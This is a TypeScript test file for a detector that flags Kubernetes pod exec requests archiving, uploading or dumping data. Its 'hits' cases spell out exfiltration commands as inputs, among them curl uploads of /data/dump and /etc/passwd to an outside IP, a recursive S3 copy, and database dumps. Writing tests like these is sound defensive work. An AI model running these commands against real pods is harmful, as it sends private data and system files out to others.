import { execArchive } from '../../../lib/detectors/exec-archive.ts';
import { command } from '../requests.ts';
import { testActs } from './verdicts.ts';

const ran = (...words: string[]) => ({ verb: 'get', resource: 'pods/exec', namespace: 'shop', name: 'cart-0', code: 101, query: command(...words) });
const [archive, upload, dump] = [['an archive written to standard output in shop'], ['an upload in shop'], ['a database dump in shop']];

testActs(execArchive, {
  hits: [
    ['kubectl cp', ran('tar', 'cf', '-', '/data'), archive],
    ['tar with a dash', ran('tar', '-czf', '-', '/data'), archive],
    ['tar within a shell', ran('sh', '-c', 'cd / && tar -c data -f - | base64'), archive],
    ['zip to standard output', ran('zip', '-r', '-', '/data'), archive],
    ['curl that sends a file', ran('curl', '-T', '/data/dump', 'https://203.0.113.9/'), upload],
    ['curl that posts a file', ran('sh', '-c', 'curl --data-binary @/etc/passwd https://203.0.113.9/'), upload],
    ['a copy to a bucket', ran('aws', 's3', 'cp', '/data', 's3://bucket/', '--recursive'), upload],
    ['a dump of PostgreSQL', ran('pg_dump', '-h', 'db', 'shop'), dump],
    ['a dump of MySQL', ran('sh', '-c', 'mysqldump shop > /tmp/x'), dump],
    ['one that was refused as another act', { ...ran('tar', 'cf', '-', '/data'), outcome: 'refused', code: 403 }, ['an archive written to standard output in shop (refused)']],
  ],
  misses: [
    ['a shell', ran('sh')],
    ['a list of files', ran('ls', '-la', '/data')],
    ['an archive that is unpacked, as kubectl cp does into a pod', ran('tar', '-xmf', '-', '-C', '/tmp')],
    ['a download', ran('curl', '-s', 'https://203.0.113.9/health')],
    ['the same words in another request', { ...ran('tar', 'cf', '-'), resource: 'pods/log' }],
    ['a command without words', ran()],
    ['one in a pod that is not there', { ...ran('tar', 'cf', '-', '/data'), outcome: 'missing', code: 404 }],
  ],
});
